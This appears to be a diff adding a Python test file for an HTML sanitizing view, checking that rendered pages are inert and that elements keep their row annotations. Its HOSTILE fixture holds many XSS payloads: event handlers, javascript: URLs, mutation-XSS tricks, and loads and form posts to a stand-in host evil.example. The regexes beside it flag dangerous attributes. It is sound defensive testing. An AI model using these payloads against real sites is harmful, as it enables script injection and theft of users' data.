@@ -1,0 +1,128 @@
+"""The page for the frame: every element with its row, and nothing in it that does something."""
+
+import re
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+
+import elute
+from elute.annotate.view import ROW, STYLE, view
+from elute.page import ELEMENT, Page
+from places import REPOSITORY
+from properties.soup import pages as soups
+
+PAGES = sorted((REPOSITORY / "tests" / "pages").glob("*/page.html"))
+
+HOSTILE = """<!DOCTYPE html><html manifest=//evil.example onload=steal()><head>
+<base href=//evil.example/ target=_top>
+<meta http-equiv=refresh content="0;url=http://evil.example/"><meta http-equiv=Content-Security-Policy content="">
+<link rel=stylesheet href=//evil.example/a.css><link rel=dns-prefetch href=//evil.example>
+<script src=//evil.example/a.js></script><script>steal()</script>
+<style media=screen>@import "//evil.example/b.css"; p { color: red } </style>
+</head><body onload=steal() background=//evil.example/c.png>
+<p onclick=steal() OnMouseOver=steal() id=kept class="a b" style="color: blue" data-elute-row=1 data-x=y>Text</p>
+<a href=javascript:steal() target=_top ping=//evil.example download>one</a>
+<a href=//evil.example/ accesskey=d autofocus tabindex=1>two</a>
+<img src=//evil.example/d.png srcset="//evil.example/e.png 2x" onerror=steal() alt=Rain width=30>
+<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
+<picture><source srcset=//evil.example/f.png><img src=x></picture>
+<iframe src=//evil.example></iframe><iframe srcdoc="<script>steal()</script>"></iframe>
+<object data=//evil.example/g><param name=movie value=//evil.example/h><p>fallback</object>
+<embed src=//evil.example/i><applet code=Evil archive=//evil.example/j.jar></applet>
+<form action=//evil.example/k method=post><input name=q formaction=//evil.example/l type=image src=//evil.example/m>
+<button formaction=javascript:steal()>Go</button><textarea>
+&lt;/textarea&gt;<script>steal()</script></textarea></form>
+<video src=//evil.example/n poster=//evil.example/o autoplay><source src=//evil.example/p></video>
+<audio src=//evil.example/q></audio>
+<svg><script>steal()</script><a xlink:href=javascript:steal()><text>three</text></a><use href=//evil.example/r#x />
+<image href=//evil.example/s.png /><use href=#inside /><set attributeName=href to=javascript:steal() />
+<foreignObject><body onload=steal()></foreignObject><style>&lt;/style&gt;&lt;img src=x onerror=steal()&gt;</style></svg>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=steal()&gt;"></table></math>
+<template shadowrootmode=open><script>steal()</script></template>
+<noscript><img src=//evil.example/t onerror=steal()></noscript>
+<div contenteditable popovertarget=x is=x-evil slot=x>four</div>
+<xmp><script>steal()</script></xmp><noembed><script>steal()</script></noembed>
+<frameset onload=steal()><plaintext><script>steal()</script>"""
+
+RUNS = re.compile(r"on.*|srcdoc|.*action|http-equiv|ping|target|manifest|content|is|nonce", re.IGNORECASE)
+LOADS = re.compile(r"src|srcset|href|xlink:href|data|poster|background|code|archive|codebase|classid", re.IGNORECASE)
+HARMLESS = re.compile(r"#|data:,$|data:image/")
+EMPTY = {"script", "iframe", "frame", "template", "object", "applet", "noembed", "noframes", "video", "audio"}
+
+
+def assert_inert(shown: Page) -> None:
+    """Nothing that a browser would run, load, send or follow, as the browser's own rules parse it."""
+    for row in range(len(shown)):
+        if shown.kind[row] != ELEMENT:
+            continue
+        name, attributes = shown.tag_name(row).lower(), shown.attributes(row)
+        assert not [each for each in attributes if RUNS.fullmatch(each)], (name, attributes)
+        for attribute, value in attributes.items():
+            assert not LOADS.fullmatch(attribute) or HARMLESS.match(value), (name, attributes)
+        if name in EMPTY:
+            assert shown.end[row] == row + 1, name
+        if name in ("meta", "link", "base", "script"):
+            assert list(attributes) == [ROW], (name, attributes)
+
+
+def test_a_hostile_page_is_inert() -> None:
+    page = elute.parse(HOSTILE)
+    shown = view(page)
+    assert_inert(elute.parse(shown))
+    assert "<script>" not in shown and "javascript:" not in shown
+    assert shown.count("evil.example") == 1 and "@import" in shown  # in a style sheet: the policy keeps it from loading
+
+
+def test_what_a_page_looks_like_stays() -> None:
+    shown = view(elute.parse(HOSTILE))
+    assert re.search(r'<p id="kept" class="a b" style="color: blue" data-x="y" data-elute-row="\d+">Text</p>', shown)
+    assert re.search(r'<img alt="Rain" width="30" src="data:," data-elute-row="\d+">', shown)
+    assert 'src="data:image/gif;base64,R0lGODlhAQABAAAAACw="' in shown
+    assert '<style media="screen"' in shown and "p { color: red }" in shown
+    assert re.search(r'<use href="#inside" data-elute-row="\d+"></use>', shown)
+    assert f"<style>{STYLE}</style></head>" in shown
+    assert shown.startswith("<!DOCTYPE html>") and not view(elute.parse("<p>quirks")).startswith("<!DOCTYPE")
+
+
+def test_a_style_sheet_cannot_become_markup() -> None:
+    shown = view(
+        elute.parse("<style>a::before { content: '<img src=x>' } @media (width<40em) { b { color: red } }</style>")
+    )
+    assert "<img" not in shown and "(width\\3c 40em)" not in shown and "(width<40em)" in shown
+
+
+def rows_shown(page: Page, shown: Page) -> dict[int, int]:
+    """The elements of the shown page by the rows that they tell; no row twice."""
+    rows = [(int(told), row) for row in range(len(shown)) if (told := shown.attribute(row, ROW)) is not None]
+    assert len(dict(rows)) == len(rows)
+    return dict(rows)
+
+
+@pytest.mark.parametrize("path", PAGES, ids=[path.parent.name for path in PAGES])
+def test_every_element_knows_its_row(path: Path) -> None:
+    page = elute.parse(path.read_bytes())
+    shown = elute.parse(view(page))
+    assert_inert(shown)
+    found = rows_shown(page, shown)
+    hidden = page.in_subtrees(page.rows_of(*EMPTY)) & ~page.is_tag(*EMPTY)
+    assert sorted(found) == [row for row in range(len(page)) if page.kind[row] == ELEMENT and not hidden[row]]
+    renamed = {"xmp", "listing", "plaintext"}
+    for row, place in found.items():
+        assert page.tag_name(row) in {shown.tag_name(place), *renamed}
+        parent = int(page.parent[row])
+        assert int(shown.parent[place]) == found.get(parent, 0)
+
+
+@given(soups())
+def test_any_page_is_inert(html: str) -> None:
+    page = elute.parse(html)
+    shown = elute.parse(view(page))
+    assert_inert(shown)
+    told = {int(row) for each in range(len(shown)) if (row := shown.attribute(each, ROW)) is not None}
+    assert all(page.kind[row] == ELEMENT for row in told)
+
+
+def test_a_deep_page_is_shown() -> None:
+    shown = view(elute.parse("<div>" * 100_000 + "deep"))
+    assert "deep" in shown
